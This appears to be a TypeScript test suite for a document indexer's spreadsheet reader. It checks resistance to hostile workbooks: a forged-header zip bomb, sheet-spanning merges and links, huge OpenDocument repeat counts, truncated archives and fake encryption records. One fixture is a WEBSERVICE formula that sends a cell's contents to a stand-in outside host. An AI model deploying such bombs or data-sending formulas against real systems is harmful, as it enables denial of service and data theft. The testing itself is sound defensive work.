import { readFileSync } from 'node:fs';
import { deflateRawSync } from 'node:zlib';
import { CFB, read as readBook, utils, write } from '@e965/xlsx';
import { describe, expect, it } from 'vitest';
import type { FileReading } from '../read-documents.ts';
import { read } from '../testing/read.ts';

const main = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
const packages = 'http://schemas.openxmlformats.org/package/2006';
const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

function zipOf(files: Readonly<Record<string, string>>): Uint8Array {
  const archive = CFB.utils.cfb_new();
  for (const [name, content] of Object.entries(files))
    CFB.utils.cfb_add(archive, name, deflateRawSync(content));
  const bytes = CFB.write(archive, { fileType: 'zip', type: 'buffer' }) as Buffer;
  // Its own packer leaves a bomb no smaller than it is: the entries are packed already, and their headers say so here.
  for (const [signature, method] of [
    ['PK\x03\x04', 8],
    ['PK\x01\x02', 10],
  ] as const)
    for (let at = bytes.indexOf(signature); at !== -1; at = bytes.indexOf(signature, at + 4))
      bytes.writeUInt16LE(8, at + method);
  return bytes;
}

/** A workbook of one sheet and nothing else. */
function workbookOf(sheet: string, more: Readonly<Record<string, string>> = {}): Uint8Array {
  const part = (name: string, type: string) =>
    `<Override PartName="${name}" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.${type}+xml"/>`;
  const types = part('/xl/workbook.xml', 'sheet.main') + part('/xl/worksheets/sheet1.xml', 'worksheet');
  return zipOf({
    '/[Content_Types].xml': `<Types xmlns="${packages}/content-types">${types}</Types>`,
    '/xl/workbook.xml': `<workbook xmlns="${main}" xmlns:r="${office}"><sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>`,
    '/xl/_rels/workbook.xml.rels': `<Relationships xmlns="${packages}/relationships"><Relationship Id="rId1" Type="${office}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`,
    '/xl/worksheets/sheet1.xml': `<worksheet xmlns="${main}">${sheet}</worksheet>`,
    ...more,
  });
}

const cell = (name: string, text: string) => `<c r="${name}" t="inlineStr"><is><t>${text}</t></is></c>`;
const rowsOf = (...rows: string[]) =>
  `<sheetData>${rows.map((row) => `<row>${row}</row>`).join('')}</sheetData>`;
const textOf = ({ documents }: FileReading) => documents[0]?.text;

describe('a hostile workbook', () => {
  it('costs nothing for sizes, links, columns and merged ranges that span the sheet', async () => {
    const whole = 'A1:XFD1048576';
    const sheet = `<dimension ref="${whole}"/><cols><col min="1" max="99999999" hidden="0"/><col min="3" max="4294967295" hidden="1"/></cols>
      ${rowsOf(cell('A1', 'seen') + cell('B1', 'merged away') + cell('C1', 'hidden'))}
      <mergeCells>${`<mergeCell ref="${whole}"/>`.repeat(20_000)}</mergeCells>
      <hyperlinks>${`<hyperlink ref="${whole}" location="A1"/>`.repeat(100)}</hyperlinks>`;
    const reading = await read('span.xlsx', workbookOf(sheet));
    expect(textOf(reading)).toBe('S\n\nseen');
    expect(reading.documents[0]?.hidden).toEqual(['merged away', 'hidden']);
  });

  it('keeps to cells that a sheet can have', async () => {
    const sheet = rowsOf(
      cell('A1', 'in'),
      cell('XFE2', 'too wide'),
      cell('A4294967294', 'too deep'),
      cell('?', 'nowhere'),
    );
    expect(textOf(await read('cells.xlsx', workbookOf(sheet)))).toContain('in');
  });

  it('is refused where it unpacks to a thousand times its size', async () => {
    const reading = await read('bomb.xlsx', workbookOf(rowsOf(`<!--${' '.repeat(20_000_000)}-->`)));
    expect(reading).toMatchObject({ state: 'failed', reason: 'too-large' });
  });

  it('runs no formula and shows what was last computed', async () => {
    const formula = '<c r="A1" t="str"><f>WEBSERVICE("http://example.invalid/"&amp;B1)</f><v>cached</v></c>';
    expect(textOf(await read('dde.xlsx', workbookOf(rowsOf(formula))))).toBe('S\n\ncached');
  });

  it('says a repeated value of OpenDocument a few times, not a billion', async () => {
    const row = `<table:table-row table:number-rows-repeated="1048576"><table:table-cell table:number-columns-repeated="16384" office:value-type="string"><text:p>spam</text:p></table:table-cell></table:table-row>`;
    const reading = await read(
      'repeated.ods',
      zipOf(odsOf(`<table:table table:name="T">${row}</table:table>`)),
    );
    expect(reading.state).toBe('indexed');
    expect(textOf(reading)?.match(/spam/g)).toHaveLength(2_500);
  });

  it('is read to its last whole row where the archive holds half a sheet', async () => {
    const sheet = `<sheetData><row>${cell('A1', 'whole')}</row><row><c r="A2" t="inlineStr"><is><t>cut o`;
    expect(textOf(await read('half.xlsx', workbookOf(sheet)))).toBe('S\n\nwhole');
  });
});

function odsOf(sheets: string): Record<string, string> {
  return {
    '/mimetype': 'application/vnd.oasis.opendocument.spreadsheet',
    '/META-INF/manifest.xml': '<manifest:manifest/>',
    '/styles.xml': '<office:document-styles/>',
    '/content.xml': `<office:document-content><office:body><office:spreadsheet>${sheets}</office:spreadsheet></office:body></office:document-content>`,
  };
}

describe('an older workbook', () => {
  /** The case's records, changed. */
  function changed(change: (type: number, record: Buffer) => void): Uint8Array {
    const container = CFB.read(readFileSync(new URL('./cases/fees.xls', import.meta.url)), {
      type: 'buffer',
    });
    const stream = CFB.find(container, '/Workbook').content as Buffer;
    for (let at = 0; at + 4 <= stream.length; at += 4 + stream.readUInt16LE(at + 2))
      change(stream.readUInt16LE(at), stream.subarray(at + 4, at + 4 + stream.readUInt16LE(at + 2)));
    return CFB.write(container, { type: 'buffer' }) as Buffer;
  }

  it('shows nothing of cells in white', async () => {
    const white = changed((type, record) => void (type === 0x31 && record.writeUInt16LE(9, 4)));
    expect(await read('white.xls', white)).toMatchObject({ state: 'skipped', reason: 'no-text' });
  });

  it('costs nothing for links over whole sheets', async () => {
    const book = utils.book_new();
    const sheet = utils.aoa_to_sheet([['linked'], ['not']]);
    sheet['A1'].l = { Target: 'https://example.invalid/' };
    utils.book_append_sheet(book, sheet, 'S');
    const container = CFB.read(write(book, { type: 'buffer', bookType: 'biff8' }), { type: 'buffer' });
    const stream = CFB.find(container, '/Workbook').content as Buffer;
    const link = stream.indexOf(Buffer.from([0xb8, 0x01]));
    stream.writeUInt16LE(65_535, link + 6);
    stream.writeUInt16LE(255, link + 10);
    const bytes = CFB.write(container, { type: 'buffer' }) as Buffer;
    expect(textOf(await read('links.xls', bytes))).toBe('S\n\nlinked\nnot');
  });

  it('is encrypted where its records say so', async () => {
    const bytes = Buffer.from(write(simpleBook(), { type: 'buffer', bookType: 'biff8' }));
    const container = CFB.read(bytes, { type: 'buffer' });
    const stream = CFB.find(container, '/Workbook').content as Buffer;
    // The second record becomes FILEPASS.
    stream.writeUInt16LE(0x2f, 4 + stream.readUInt16LE(2));
    const locked = CFB.write(container, { type: 'buffer' }) as Buffer;
    expect(await read('locked.xls', locked)).toMatchObject({ state: 'skipped', reason: 'encrypted' });
  });
});

function simpleBook() {
  const book = utils.book_new();
  utils.book_append_sheet(book, utils.aoa_to_sheet([['a', 'b']]), 'S');
  return book;
}

describe('what a workbook is', () => {
  it.each([
    ['export.xls', 'Name\tTown\nAnna\tLeith', 'csv'],
    ['export.xls', '<table><tr><td>Anna</td><td>Leith</td></tr></table>', 'html'],
  ])('%s of text is read for what it is: %s', async (name, text, parserId) => {
    expect(await read(name, new TextEncoder().encode(text))).toMatchObject({ state: 'indexed', parserId });
  });

  it('is told by its content, not by its name', async () => {
    const bytes = workbookOf(rowsOf(cell('A1', 'seen')));
    expect(await read('renamed', bytes)).toMatchObject({ state: 'indexed', parserId: 'workbook' });
    expect(await read('words.xlsx', new TextEncoder().encode('only words'))).toMatchObject({
      reason: 'mislabelled',
    });
  });

  it('counts days from 1904 where the workbook does', async () => {
    const book = utils.book_new();
    utils.book_append_sheet(book, utils.aoa_to_sheet([['Due'], [{ t: 'n', v: 43_098, z: 'm/d/yy' }]]), 'S');
    book.Workbook = { WBProps: { date1904: true } };
    const bytes = write(book, { type: 'buffer', bookType: 'xlsx' }) as Buffer;
    expect(readBook(bytes).Workbook?.WBProps?.date1904).toBeTruthy();
    expect(textOf(await read('mac.xlsx', bytes))).toBe('S\n\nDue\n2021-12-30');
  });

  it('ends in no-text where no sheet holds anything', async () => {
    expect(await read('empty.xlsx', workbookOf('<sheetData/>'))).toMatchObject({ reason: 'no-text' });
  });
});
